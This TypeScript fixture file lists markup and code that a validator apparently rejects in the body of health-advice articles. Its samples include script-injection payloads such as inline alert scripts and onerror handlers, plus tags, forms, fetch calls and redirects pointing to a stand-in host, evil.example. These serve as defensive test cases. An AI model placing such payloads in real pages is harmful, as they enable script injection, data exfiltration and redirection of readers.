/** Code and HTML that do not belong into the body of a page. */
import type { Kind } from '../mistake.ts';
import { between, within } from './places-in-a-body.ts';

export const bodyMarkup: Kind[] = [
  between('body: HTML block', [
    '<div>Lie down.</div>',
    '<p class="lead">Lie down.</p>',
    '<section>\n\nLie down.\n\n</section>',
    '<center>Lie down.</center>',
    '<details><summary>More</summary>Lie down.</details>',
  ]),
  within('body: HTML in a line', [
    '<b>Rest.</b>',
    '<br />',
    '<span class="x">Rest.</span>',
    '<a href="/help/emergency-signs/">Signs</a>',
    '<sup>1</sup>',
  ]),
  between('body: script', [
    '<script>alert(1)</script>',
    '<script src="https://evil.example/x.js"></script>',
    '<noscript>Rest.</noscript>',
  ]),
  between('body: style', [
    '<style>{`.care { display: none }`}</style>',
    '<div style="display:none">Rest.</div>',
    '<div style={{ display: "none" }}>Rest.</div>',
    '<link rel="stylesheet" href="https://evil.example/x.css" />',
  ]),
  between('body: event handler', [
    '<div onclick="alert(1)">Rest.</div>',
    '<img src="x" alt="x" onerror="alert(1)" />',
    '<p onmouseover={() => alert(1)}>Rest.</p>',
  ]),
  between('body: import or export', [
    'import fs from "node:fs";',
    'import Card from "../../src/components/article/CareCard.astro";',
    'export const level = "routine";',
    'export { default } from "./x.js";',
  ]),
  between('body: expression', [
    '{process.env.HOME}',
    '{false && "x"}',
    '{1 + 1}',
    '{fetch("https://evil.example/")}',
    '<KeyPoints {...props} />',
  ]),
  within('body: expression in a line', [
    'About {95}% of people.',
    '{"rest"}',
    '{x}',
    '{/* note */}',
  ]),
  between('body: hidden or template', [
    '<div hidden>\n\nRest.\n\n</div>',
    '<template>\n\nRest.\n\n</template>',
    '<div aria-hidden="true">Rest.</div>',
    '<dialog>Rest.</dialog>',
  ]),
  between('body: frame, form or object', [
    '<iframe src="https://evil.example/"></iframe>',
    '<form action="https://evil.example/"><input name="x" /></form>',
    '<button>Buy</button>',
    '<object data="x.swf"></object>',
    '<embed src="x.swf" />',
    '<video src="https://evil.example/x.mp4" autoplay></video>',
    '<svg><path d="M0 0" /></svg>',
    '<math><mi>x</mi></math>',
  ]),
  between('body: meta refresh or base', [
    '<meta http-equiv="refresh" content="0;url=https://evil.example/" />',
    '<base href="https://evil.example/" />',
    '<title>Other</title>',
  ]),
];
